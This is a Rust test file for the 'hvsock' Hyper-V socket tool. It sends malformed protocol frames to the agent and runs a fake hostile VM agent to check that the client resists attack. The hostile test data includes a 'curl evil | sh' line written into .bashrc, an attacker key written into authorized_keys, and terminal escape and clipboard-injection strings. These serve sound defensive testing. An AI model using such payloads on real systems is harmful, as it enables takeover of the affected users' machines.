    // receiving had no name (O_TMPFILE, supported by the temp dir's filesystem), so
    // nothing is left; an old file at DST is untouched, a new one never appears.
    let keep = local.join("keep.bin");
    std::fs::write(&keep, b"old").unwrap();
    for dst in [&keep, &local] {
        let out = interrupt_cp(
            &env,
            &["cp", &from_vm1, dst.to_str().unwrap()],
            &local,
            libc::SIGKILL,
        );
        assert_eq!(out.status.signal(), Some(libc::SIGKILL));
        assert_eq!(temp_files(&local), Vec::<String>::new());
        assert_eq!(std::fs::read(&keep).unwrap(), b"old");
        assert!(!local.join("huge.bin").exists());
    }
}

// ---------------------------------------------------------------------------------
// Malformed frames against the live agent

fn frame(ty: u8, payload: &[u8]) -> Vec<u8> {
    let mut v = ((payload.len() + 1) as u32).to_be_bytes().to_vec();
    v.push(ty);
    v.extend_from_slice(payload);
    v
}

fn hello(version: u16) -> Vec<u8> {
    let mut p = b"HVSAGENT".to_vec();
    p.extend_from_slice(&version.to_be_bytes());
    frame(0x01, &p)
}

/// Parses the frames of a reply: (type, payload) pairs.
fn frames(mut b: &[u8]) -> Vec<(u8, Vec<u8>)> {
    let mut out = Vec::new();
    while b.len() >= 5 {
        let len = u32::from_be_bytes(b[..4].try_into().unwrap()) as usize;
        if b.len() < 4 + len {
            break;
        }
        out.push((b[4], b[5..4 + len].to_vec()));
        b = &b[4 + len..];
    }
    out
}

/// The `Error` frame of a reply: (code, message).
fn error_of(reply: &[u8]) -> (u16, String) {
    let fs = frames(reply);
    let (_, p) = fs
        .iter()
        .find(|(t, _)| *t == 0x7f)
        .unwrap_or_else(|| panic!("no Error frame in {fs:?}"));
    let code = u16::from_be_bytes([p[0], p[1]]);
    let n = u32::from_be_bytes(p[2..6].try_into().unwrap()) as usize;
    (code, String::from_utf8_lossy(&p[6..6 + n]).into_owned())
}

/// Sends `bytes` on a fresh connection, half-closes, returns everything the agent says.
fn raw(env: &Env, bytes: &[u8]) -> Vec<u8> {
    let mut s = Context::host(env.dirs())
        .connect(HvAddr::new(env.vm1, SERVICE_ID))
        .unwrap();
    s.set_read_timeout(Some(LIMIT)).unwrap();
    // The agent may hang up before reading everything: a failed write is fine.
    let _ = s.write_all(bytes);
    let _ = s.shutdown(Shutdown::Write);
    let mut reply = Vec::new();
    let _ = s.read_to_end(&mut reply);
    reply
}

#[test]
fn malformed_frames_get_errors_and_the_agent_keeps_serving() {
    let mut env = Env::with_agent(&[]);
    let cat = |extra: &[u8]| [hello(VERSION), extra.to_vec()].concat();
    let cases: Vec<(&str, Vec<u8>, u16)> = vec![
        ("wrong magic", frame(0x01, b"NOTAGENT\0\x01"), 1),
        ("not a Hello first", frame(0x11, b""), 1),
        ("version mismatch", hello(99), 2),
        ("huge length", cat(&[0xff, 0xff, 0xff, 0xff, 0x02]), 1),
        ("zero length", cat(&[0, 0, 0, 0]), 1),
        ("unknown type", cat(&frame(0x99, b"")), 1),
        (
            "argc over the limit",
            cat(&frame(0x02, &[0, 0, 24, 0, 80, 0xff, 0xff, 0xff, 0xff])),
            1,
        ),
        ("bad bool", cat(&frame(0x04, &[7, 0, 0, 0, 1, b'x'])), 1),
        ("Stdin instead of a request", cat(&frame(0x10, b"hi")), 3),
    ];
    for (what, bytes, want) in cases {
        let reply = raw(&env, &bytes);
        let (code, msg) = error_of(&reply);
        assert_eq!(code, want, "{what}: {msg}");
        assert!(!msg.is_empty(), "{what}");
    }
    // A truncated frame then EOF, and a connection that just closes: no reply needed,
    // no harm done.
    raw(&env, &cat(&[0, 0, 1, 0, 0x02, 1, 2]));
    raw(&env, b"");
    // The version mismatch is explained.
    let (_, msg) = error_of(&raw(&env, &hello(99)));
    assert!(
        msg.contains(&format!("protocol v{VERSION}")) && msg.contains("v99"),
        "{msg}"
    );
    // A v1 client (before flow control) gets the same clear mismatch, not a session.
    let (c, msg) = error_of(&raw(&env, &hello(1)));
    assert_eq!(c, 2, "{msg}");
    assert!(msg.contains("client v1; upgrade the client"), "{msg}");
    // Through the CLI's raw `hvsock connect` too.
    let out = env.run(
        &["connect", "vm1:00004856-facb-11e6-bd58-64006a7986d3"],
        &frame(0x01, b"GARBAGE!\0\x01"),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(error_of(&out.stdout).0, 1);

    // Still serving, and it logged the errors one line each.
    assert!(env.agent_alive());
    let out = env.run(&["exec", "vm1", "--", "echo", "still here"], b"");
    assert_eq!((code(&out), stdout(&out)), (0, "still here\n".to_string()));
    let log = env.agent_log();
    assert!(log.contains("protocol"), "{log}");
}

// ---------------------------------------------------------------------------------
// demo

#[test]
fn demo_runs_end_to_end_and_cleans_up() {
    let tmp = tempfile::tempdir().unwrap();
    let out = run(
        {
            let mut c = Command::new(BIN);
            c.arg("demo")
                .env("TMPDIR", tmp.path())
                // The demo must not depend on (or touch) any configuration.
                .env("HVSOCK_CONFIG_DIR", tmp.path().join("unused-config"))
                .env("HVSOCK_RUNTIME_DIR", tmp.path().join("unused-run"))
                .env_remove("HVSOCK_PARTITION")
                .env_remove("HVSOCK_GUEST");
            c
        },
        b"",
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{text}\n{}", stderr(&out));
    for key in [
        "registered the agent service",
        "00004856-facb-11e6-bd58-64006a7986d3",
        "added a local partition        demo-vm",
        "started the agent in demo-vm",
        "$ uname -a",
        "HELLO OVER A HYPER-V SOCKET",
        "stdout: to stdout",
        "stderr: to stderr",
        "-> exit 3",
        "-> exit 127",
        "identical both ways",
        "stopped the agent, removed",
        "hvsock exec myvm -- uname -a",
        "HVSOCK_GUEST=1 hvsock agent",
    ] {
        assert!(text.contains(key), "demo output lacks {key:?}:\n{text}");
    }
    // One hash, shown for the original, in the VM and back.
    let sums: Vec<&str> = text
        .split_whitespace()
        .filter(|w| w.len() == 64 && w.chars().all(|c| c.is_ascii_hexdigit()))
        .collect();
    assert_eq!(sums.len(), 3, "{text}");
    assert!(sums.iter().all(|s| *s == sums[0]));
    // Nothing left behind.
    let left: Vec<_> = std::fs::read_dir(tmp.path()).unwrap().collect();
    assert!(left.is_empty(), "{left:?}");
}

// ---------------------------------------------------------------------------------
// A fake agent in vm1: `hvsock cp` against a hostile VM

/// A fake agent bound in vm1 (where `hvsock agent` would be): for each of `replies`,
/// accepts one connection, answers Hello, reads the request, sends the reply's frames
/// and reads until the client hangs up.
fn fake_vm_agent(
    env: &Env,
    replies: Vec<Vec<hvsock_agent::proto::Frame>>,
) -> thread::JoinHandle<()> {
    use hvsock_agent::proto::Frame;
    fake_vm_agent_for(env, |f| matches!(f, Frame::CopyFrom { .. }), replies)
}

/// [`fake_vm_agent`] for requests that `is_request` accepts.
fn fake_vm_agent_for(
    env: &Env,
    is_request: fn(&hvsock_agent::proto::Frame) -> bool,
    replies: Vec<Vec<hvsock_agent::proto::Frame>>,
) -> thread::JoinHandle<()> {
    use hvsock_agent::proto::{self, Frame, VERSION};
    let listener = Context::local(env.dirs(), "vm1")
        .unwrap()
        .bind(HvAddr::new(VmId::PARENT, SERVICE_ID))
        .unwrap();
    thread::spawn(move || {
        for frames in replies {
            let (mut s, _) = listener.accept().unwrap();
            s.set_read_timeout(Some(LIMIT)).unwrap();
            let mut buf = Vec::new();
            let mut next = |s: &mut hvsock::HvStream| loop {
                if let Ok(Some((f, n))) = proto::decode_slice(&buf) {
                    buf.drain(..n);
                    return Some(f);
                }
                let mut chunk = [0u8; 4096];
                match s.read(&mut chunk) {
                    Ok(0) | Err(_) => return None,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
            };
            assert!(matches!(next(&mut s), Some(Frame::Hello { .. })));
            s.write_all(&proto::encode_to_vec(&Frame::Hello { version: VERSION }).unwrap())
                .unwrap();
            assert!(next(&mut s).as_ref().is_some_and(is_request));
            for f in &frames {
                if s.write_all(&proto::encode_to_vec(f).unwrap()).is_err() {
                    break;
                }
            }
            while next(&mut s).is_some() {}
        }
    })
}

#[test]
fn cp_from_a_fake_vm_cannot_replace_authorized_keys_nor_drive_the_terminal() {
    use hvsock_agent::proto::Frame;
    let env = Env::bare();
    env.ok(&["agent", "--install-service"]);
    let home = env.path("home");
    let ssh = home.join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::set_permissions(&ssh, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(ssh.join("authorized_keys"), "mine\n").unwrap();
    std::fs::set_permissions(
        ssh.join("authorized_keys"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    let file = |path: &str, mode: u32, data: &[u8]| {
        vec![
            Frame::File {
                path: path.into(),
                mode,
                size: data.len() as u64,
            },
            Frame::Data(data.to_vec().into()),
            Frame::FileEnd {
                sha256: hvsock_testkit::data::sha256(data),
            },
        ]
    };
    let total = |frames: &[Frame]| {
        let files = frames
            .iter()
            .filter(|f| matches!(f, Frame::File { .. }))
            .count() as u64;
        let bytes = frames
            .iter()
            .map(|f| {
                if let Frame::File { size, .. } = f {
                    *size
                } else {
                    0
                }
            })
            .sum();
        Frame::CopyTotal { files, bytes }
    };
    let key = b"ssh-ed25519 AAAA attacker\n";
    let mut ssh_tree = vec![Frame::Dir {
        path: ".ssh".into(),
        mode: 0o777,
    }];
    ssh_tree.extend(file(".ssh/authorized_keys", 0o666, key));
    let bashrc = file(".bashrc", 0o644, b"curl evil | sh\n");
    let evil_name = file("\x1b]0;owned\x07\x1b[2J", 0o644, b"x");
    let mut replies = Vec::new();
    for mut frames in [ssh_tree, bashrc, evil_name] {
        frames.insert(0, total(&frames));
        frames.push(Frame::CopyEnd);
        replies.push(frames);
    }
    replies.push(vec![Frame::Error {
        code: hvsock_agent::proto::ErrorCode::IO,
        message: "\x1b[31mred\x1b]52;c;cGF5bG9hZA==\x07".into(),
    }]);
    let n = replies.len();
    let fake = fake_vm_agent(&env, replies);
    for i in 0..n {
        let mut c = env.cmd(&["cp", "vm1:/var/log/syslog", "."]);
        c.current_dir(&home);
        let out = run(c, b"");
        let e = stderr(&out);
        assert_eq!(code(&out), 1, "reply {i}: {e}");
        assert!(
            e.starts_with("hvsock: ") && e.lines().count() == 1,
            "reply {i}: {e}"
        );
        assert!(
            !e.trim_end().chars().any(|c| c.is_control()),
            "reply {i}: {e:?}"
        );
    }
    fake.join().unwrap();
    assert_eq!(
        std::fs::read_to_string(ssh.join("authorized_keys")).unwrap(),
        "mine\n"
    );
    assert_eq!(mode(&ssh.join("authorized_keys")), 0o600);
    assert_eq!(mode(&ssh), 0o700);
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    let mut names: Vec<_> = std::fs::read_dir(&home)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, [".bashrc", ".ssh"]);
}

#[test]
fn cp_idle_timeout_names_the_stalled_file() {
    use hvsock_agent::proto::Frame;
    let env = Env::bare();
    env.ok(&["agent", "--install-service"]);
    // Half a file, then silence (the fake keeps the connection open until cp leaves).
    let fake = fake_vm_agent(
        &env,
        vec![vec![
            Frame::CopyTotal {
                files: 1,
                bytes: 10,
            },
            Frame::File {
                path: "syslog".into(),
                mode: 0o644,
                size: 10,
            },
            Frame::Data(b"12345".to_vec().into()),
        ]],
    );
    let dst = env.path("got");
    let out = env.run(
        &[
            "cp",
            "--idle-timeout",
            "300ms",
            "vm1:/var/log/syslog",
            dst.to_str().unwrap(),
        ],
        b"",
    );
    let e = stderr(&out);
    assert_eq!(code(&out), 1, "{e}");
    assert!(e.contains("idle timeout") && e.contains("syslog"), "{e}");
    fake.join().unwrap();
    assert!(!dst.exists());
    let help = env.ok(&["agent", "--help"]);
    assert!(help.contains("--copy-idle-timeout"), "{help}");
}

#[test]
fn exec_escapes_the_error_text_of_a_hostile_agent() {
    use hvsock_agent::proto::{ErrorCode, Frame};
    let env = Env::bare();
    env.ok(&["agent", "--install-service"]);
    let hostile = "\x1b[31mred\x1b]52;c;cGF5bG9hZA==\x07\u{202e}txt.exe\nsecond line";
    let fake = fake_vm_agent_for(
        &env,
        |f| matches!(f, Frame::Exec(_)),
        vec![vec![Frame::Error {
            code: ErrorCode::IO,
            message: hostile.into(),
        }]],
    );
    let out = env.run(&["exec", "vm1", "--", "true"], b"");
    let e = stderr(&out);
    fake.join().unwrap();
    assert_eq!(code(&out), 255, "{e}");
    assert!(
        e.starts_with("hvsock: agent: ") && e.lines().count() == 1,
        "{e:?}"
    );
    assert!(
        !e.trim_end()
            .chars()
            .any(|c| c.is_control() || c == '\u{202e}'),
        "{e:?}"
    );
    assert!(
        e.contains("\\u{1b}[31mred") && e.contains("second line"),
        "{e:?}"
    );
}
